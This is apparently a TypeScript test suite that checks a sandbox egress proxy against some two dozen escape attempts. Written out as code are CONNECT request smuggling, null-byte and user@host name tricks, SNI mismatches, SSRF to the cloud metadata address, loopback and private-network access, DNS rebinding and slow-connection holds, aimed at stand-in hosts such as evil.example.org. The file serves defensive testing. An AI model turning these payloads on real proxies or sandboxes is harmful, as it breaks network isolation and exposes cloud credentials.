// The egress proxy lets a sandbox reach the hosts of a list. Without a sandbox there is a proxy that believes whatever it is
// told. Each program first reaches what it may, so that an attempt is not held only because nothing works.
import { type Attempt, done, node } from '../attempt.ts';
import { gatewayPort } from '../door.ts';
import { hiddenName, limits, proxyPort } from '../way-out.ts';
import { publicAddresses, type World } from '../world.ts';

const alive = 'the registry';

/** Tools of the programs. Whoever answers or cuts ends the connection, so the time is only a ceiling. */
const tools = `
  import { connect } from "node:net";
  import { connect as connectTls } from "node:tls";
  const print = (data) => process.stdout.write(String(data));
  const open = (text, where = { port: ${proxyPort}, host: "127.0.0.1" }) => new Promise((resolve) => {
    const socket = connect(where, () => socket.write(text));
    socket.on("error", () => resolve(undefined)).on("close", () => resolve(undefined));
    socket.once("data", (data) => {
      const [answer, ...rest] = String(data).split("\\r\\n\\r\\n");
      print(rest.join());
      resolve(/^HTTP\\/1.1 200/.test(answer) ? socket.pause() : undefined);
    });
  });
  const head = (target) => "CONNECT " + target + " HTTP/1.1\\r\\nhost: " + target + "\\r\\n\\r\\n";
  const listen = (socket, ms = 20_000) => new Promise((resolve) => {
    if (!socket) return resolve();
    socket.on("data", print).on("error", resolve).on("close", resolve).resume();
    setTimeout(resolve, ms).unref();
  });
  const ask = async (socket, servername, body = "GET / HTTP/1.0\\r\\n\\r\\n") => {
    if (!socket) return;
    const tls = connectTls({ socket, servername, rejectUnauthorized: false });
    tls.write(body);
    await listen(tls);
  };
  await ask(await open(head("registry.example.com:443")), "registry.example.com");
`;

const viaEgress: Attempt['spec'] = ({ grant, egress }) => ({
  network: {
    mode: 'allowlist',
    gateway: { socket: grant().socket, port: gatewayPort },
    proxy: { socket: egress().socket, port: proxyPort },
  },
});

const attempt = (name: string, script: string | ((world: World) => string)): Attempt => ({
  name,
  spec: viaEgress,
  program: (world) => node(`${tools}\n${typeof script === 'string' ? script : script(world)}\nprocess.exit(0);`),
  reached({ stdout, stderr }, { secret }) {
    if (!stdout.includes(alive)) throw new Error(`"${name}" did not even reach what it may: ${stdout}${stderr}`);
    return stdout.includes(secret) || stdout.includes(done);
  },
});

/** Reads what comes of itself behind a tunnel. */
const tunnel = (target: string) => `await listen(await open(head(${JSON.stringify(target)})));`;
/** Asks a host by TLS behind whatever is sent first. */
const askEvil = (text: string, servername = 'evil.example.org') =>
  `await ask(await open(${JSON.stringify(text)}), ${JSON.stringify(servername)});`;

export const egress: readonly Attempt[] = [
  attempt(
    'reaches a host that is not on the list',
    askEvil('CONNECT evil.example.org:443 HTTP/1.1\r\nhost: x\r\n\r\n'),
  ),
  attempt(
    'reaches a host by a name that begins like one of the list',
    askEvil('CONNECT registry.example.com.evil.example.org:443 HTTP/1.1\r\nhost: x\r\n\r\n'),
  ),
  attempt(
    'reaches a host behind a name of the list as a user',
    askEvil('CONNECT registry.example.com@evil.example.org:443 HTTP/1.1\r\nhost: x\r\n\r\n'),
  ),
  attempt(
    'reaches a host that it hides behind the end of a string',
    askEvil('CONNECT evil.example.org\0.files.example.com:443 HTTP/1.1\r\nhost: x\r\n\r\n'),
  ),
  attempt(
    'reaches a host by a line end in its request',
    askEvil('CONNECT registry.example.com:443\r\nCONNECT evil.example.org:443 HTTP/1.1\r\nhost: x\r\n\r\n'),
  ),
  attempt(
    'reaches a host by a header that looks like a request',
    askEvil('CONNECT registry.example.com:443 HTTP/1.1\r\nx: CONNECT evil.example.org:443\r\n\r\n'),
  ),
  attempt(
    'reaches a host behind a huge header',
    askEvil(
      `CONNECT registry.example.com:443 HTTP/1.1\r\nx: ${'y'.repeat(30_000)}\r\nCONNECT evil.example.org:443\r\n\r\n`,
    ),
  ),
  attempt('reaches the metadata of the cloud by its address', tunnel('169.254.169.254:443')),
  attempt('reaches the metadata of the cloud by a name of the list', tunnel('inside.example.com:443')),
  attempt(
    'reaches the metadata of the cloud in the clear',
    'await listen(connect({ port: 3128, host: "127.0.0.1" }).on("connect", function () { this.write("GET http://169.254.169.254/ HTTP/1.0\\r\\n\\r\\n"); }));',
  ),
  attempt(
    'reaches the metadata of the cloud by a name that leads elsewhere when it is asked again',
    'for (const _ of [1, 2, 3, 4]) await listen(await open(head("moving.files.example.com:443")));',
  ),
  attempt('reaches the private network by its address', tunnel('10.20.30.40:443')),
  attempt('reaches the private network by a name that leads to its address in IPv6', tunnel('mapped.example.com:443')),
  attempt("reaches the worker's machine on loopback", tunnel('127.0.0.1:443')),
  attempt("reaches the worker's machine on loopback in IPv6", tunnel('[::1]:443')),
  attempt("reaches the worker's machine by its own public address", tunnel('own.example.com:443')),
  attempt('reaches another port of a host of the list', tunnel('registry.example.com:22')),
  attempt(
    'reaches another host behind the same address, by its name in TLS',
    'await ask(await open(head("registry.example.com:443")), "evil.example.org");',
  ),
  attempt(
    'reaches another host behind the same address, by no name in TLS',
    'await ask(await open(head("registry.example.com:443")), "");',
  ),
  attempt(
    'reaches another host behind the same address, by a name that is hidden in TLS',
    `const way = await open(head("registry.example.com:443"));
    const { createServer } = await import("node:net");
    const hello = await new Promise((resolve) => {
      const server = createServer((socket) => socket.once("data", (data) => { server.close(); socket.destroy(); resolve(data); }));
      server.listen(0, "127.0.0.1", () => connectTls({ ...server.address(), host: "127.0.0.1", servername: "registry.example.com" }).on("error", () => undefined));
    });
    // One more extension, with all lengths around it set right.
    const bytes = hello.subarray(5);
    const session = 4 + 2 + 32, suites = session + 1 + bytes[session], methods = suites + 2 + bytes.readUInt16BE(suites);
    const extensions = methods + 1 + bytes[methods];
    const longer = Buffer.concat([bytes, Buffer.from([0xfe, 0x0d, 0, ${hiddenName.length}]), Buffer.from(${JSON.stringify(hiddenName)})]);
    longer.writeUInt16BE(bytes.readUInt16BE(extensions) + 4 + ${hiddenName.length}, extensions);
    longer.writeUIntBE(longer.length - 4, 1, 3);
    const record = Buffer.from([22, 3, 1, 0, 0]);
    record.writeUInt16BE(longer.length, 3);
    way?.write(Buffer.concat([record, longer]));
    await listen(way);`,
  ),
  attempt(
    'speaks something else than TLS to a host of the list',
    'const way = await open(head("registry.example.com:443")); way?.write("GET / HTTP/1.0\\r\\n\\r\\n"); await listen(way);',
  ),
  attempt(
    'reaches a host by the list of another attempt',
    ({ otherEgress }) =>
      `await ask(await open(head("evil.example.org:443"), { path: ${JSON.stringify(otherEgress().socket)} }), "evil.example.org");`,
  ),
  attempt(
    'reaches a host past the proxy',
    `await listen(connect(443, ${JSON.stringify(publicAddresses.unlisted)}).on("connect", function () { this.write("GET / HTTP/1.0\\r\\n\\r\\n"); }));`,
  ),
  attempt(
    'sends more than it may',
    `await ask(await open(head("registry.example.com:443")), "registry.example.com", Buffer.alloc(${3 * limits.sentBytes}));`,
  ),
  attempt(
    'has more connections at a time than it may',
    `const all = await Promise.all(Array.from({ length: ${limits.connections + 10} }, () => open(head("registry.example.com:443"))));
    if (all.filter((one) => one && !one.destroyed).length > ${limits.connections}) print("${done}");`,
  ),
  attempt(
    'holds a connection by a handshake that does not end',
    `const way = await open(head("registry.example.com:443"));
    way?.write(Buffer.from([22, 3, 1, 2, 0, 1]));
    await listen(way, ${limits.openMs + 4_000});
    if (way && !way.destroyed) print("${done}");`,
  ),
  attempt(
    'holds a connection by a request that does not end',
    `const way = connect(${proxyPort}, "127.0.0.1");
    const drip = setInterval(() => way.write("C"), 100);
    await listen(way, ${limits.openMs + 6_000});
    clearInterval(drip);
    if (!way.destroyed) print("${done}");`,
  ),
];
